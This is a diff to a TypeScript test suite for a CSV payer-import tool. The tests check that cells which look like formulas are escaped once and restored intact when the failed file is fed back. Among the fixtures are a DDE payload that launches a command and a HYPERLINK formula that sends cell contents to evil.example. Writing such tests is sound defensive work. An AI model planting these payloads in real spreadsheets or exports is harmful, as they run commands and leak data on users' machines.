@@ -30,7 +30,7 @@ describe('formula injection: what a spreadsheet would run is written as text', (
     expect(csvUnguard(csvSafe(value))).toBe(value);
   });
 
-  it("every cell of results.csv is guarded, the input's clientUserId included; the failed file keeps the input's cells", async () => {
+  it("every cell of results.csv is guarded, the input's clientUserId included, and so is the failed file's", async () => {
     const evil = "=cmd|' /C calc'!A0";
     const input = h.tmp.write(
       '=payers.csv',
@@ -47,6 +47,56 @@ describe('formula injection: what a spreadsheet would run is written as text', (
       string,
       string
     >[];
-    expect(failed[0]!.clientUserId).toBe(evil);
+    expect(failed[0]!.clientUserId).toBe(`'${evil}`);
+  });
+});
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Details")';
+const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;
+const rowsOf = (path: string) =>
+  parse(readFileSync(path, 'utf8'), { columns: true, bom: true }) as Array<Record<string, string>>;
+
+describe('formula injection: the failed file guards the input cells, and gives them back as they were', () => {
+  it('guards a formula cell (header too) once, however often the file is fed back, and sends the cell as typed', async () => {
+    // An unknown column under a formula-like name, addressLine2 as a formula, and a cell a person typed with a `'`.
+    const header = `${PAYER_HEADER},addressLine2,=Notes`;
+    const input = h.tmp.write(
+      'payers.csv',
+      `${header}\n${payerRow('i-1', { email: 'nope' })},${quoted(HYPERLINK)},@SUM(A1:A2)\n` +
+        `${payerRow('i-2', { email: 'nope' })},'=typed,-5\n`,
+    );
+    const first = await h.run({ inputs: [input], command: 'validate' });
+    const failedPath = first.summary.outputs.failed[0]!;
+    const failed = rowsOf(failedPath);
+    expect(failed.map((r) => [r.clientUserId, r.addressLine2, r["'=Notes"], r.phone])).toEqual([
+      ['i-1', `'${HYPERLINK}`, "'@SUM(A1:A2)", '+12175550100'],
+      ['i-2', "''=typed", '-5', '+12175550100'],
+    ]);
+
+    // Fed back as it is, it fails the same way and is written the same: each guard once (`'=`, never `''=`).
+    const again = await h.run({ inputs: [failedPath], command: 'validate' });
+    expect(readFileSync(again.summary.outputs.failed[0]!, 'utf8')).toBe(readFileSync(failedPath, 'utf8'));
+
+    // Fixed by a person and run: the service gets the cells the original input had.
+    const fixed = h.tmp.write(
+      'failed-payers.csv',
+      readFileSync(failedPath, 'utf8').replaceAll(',nope,', ',ok@example.com,'),
+    );
+    const run = await h.run({ inputs: [fixed] });
+    expect(run.results.map((r) => [r.source, r.line, r.outcome])).toEqual([
+      ['payers.csv', '2', 'ok'],
+      ['payers.csv', '3', 'ok'],
+    ]);
+    expect(h.sandbox.payer('i-1')!.request).toMatchObject({ addressLine2: HYPERLINK, phone: '+12175550100' });
+    expect(h.sandbox.payer('i-1')!.paymentDetails[0]!.request).toMatchObject({ addressLine2: HYPERLINK });
+    expect(h.sandbox.payer('i-2')!.request).toMatchObject({ addressLine2: "'=typed" });
+  });
+
+  it("leaves a person's own file as typed: a cell starting with ' is sent with it", async () => {
+    // An `error` column of their own is not enough to make it one of ours: a failed file has completedSteps too.
+    const input = h.tmp.write('payers.csv', `${PAYER_HEADER},addressLine2,error\n${payerRow('o-1')},'=1+1,'@note\n`);
+    const { results } = await h.run({ inputs: [input] });
+    expect(results.map((r) => r.outcome)).toEqual(['ok']);
+    expect(h.sandbox.payer('o-1')!.request).toMatchObject({ addressLine2: "'=1+1" });
   });
 });
